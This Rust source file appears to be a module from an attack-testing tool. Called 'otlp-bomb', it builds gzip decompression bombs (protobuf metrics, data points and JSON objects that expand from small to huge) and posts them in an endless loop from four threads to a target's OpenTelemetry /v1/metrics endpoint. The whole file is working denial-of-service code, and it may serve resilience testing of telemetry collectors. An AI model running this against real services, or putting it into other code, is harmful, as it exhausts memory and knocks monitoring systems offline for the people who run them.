//! Telemetry that is small and becomes large: empty metrics, points and JSON objects, in gzip.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::attack::{Attack, Target, post};

pub(crate) const ATTACK: Attack = Attack::new("otlp-bomb", act);

const METRICS: usize = 8_000_000;
const SENDERS: usize = 4;

fn act(target: &Target) -> anyhow::Result<()> {
    let metrics = message(1, &message(2, &[0x12, 0x00].repeat(METRICS)));
    let points = message(1, &message(2, &message(2, &message(5, &[0x0a, 0x00].repeat(METRICS / 4)))));
    let json = format!(r#"{{"resourceMetrics":[{}{{}}]}}"#, "{},".repeat(METRICS / 8));
    let bombs =
        [("protobuf", gzip(&metrics)?), ("protobuf", gzip(&points)?), ("json", gzip(json.as_bytes())?)];
    let bombs = bombs.map(|(kind, bomb)| {
        let kind = if kind == "json" { "application/json" } else { "application/x-protobuf" };
        (format!("content-type: {kind}\r\ncontent-encoding: gzip\r\n"), bomb)
    });
    std::thread::scope(|threads| {
        for _ in 0..SENDERS {
            threads.spawn(|| {
                loop {
                    for (headers, bomb) in &bombs {
                        let _ = post(target.exporter, "/v1/metrics", headers, bomb);
                    }
                }
            });
        }
    });
    Ok(())
}

fn gzip(bytes: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(bytes)?;
    Ok(gzip.finish()?)
}

/// A field of a protobuf that holds bytes.
fn message(field: u8, bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![field << 3 | 2];
    let mut length = bytes.len();
    while length >= 0x80 {
        out.push(length as u8 | 0x80);
        length >>= 7;
    }
    out.push(length as u8);
    out.extend_from_slice(bytes);
    out
}
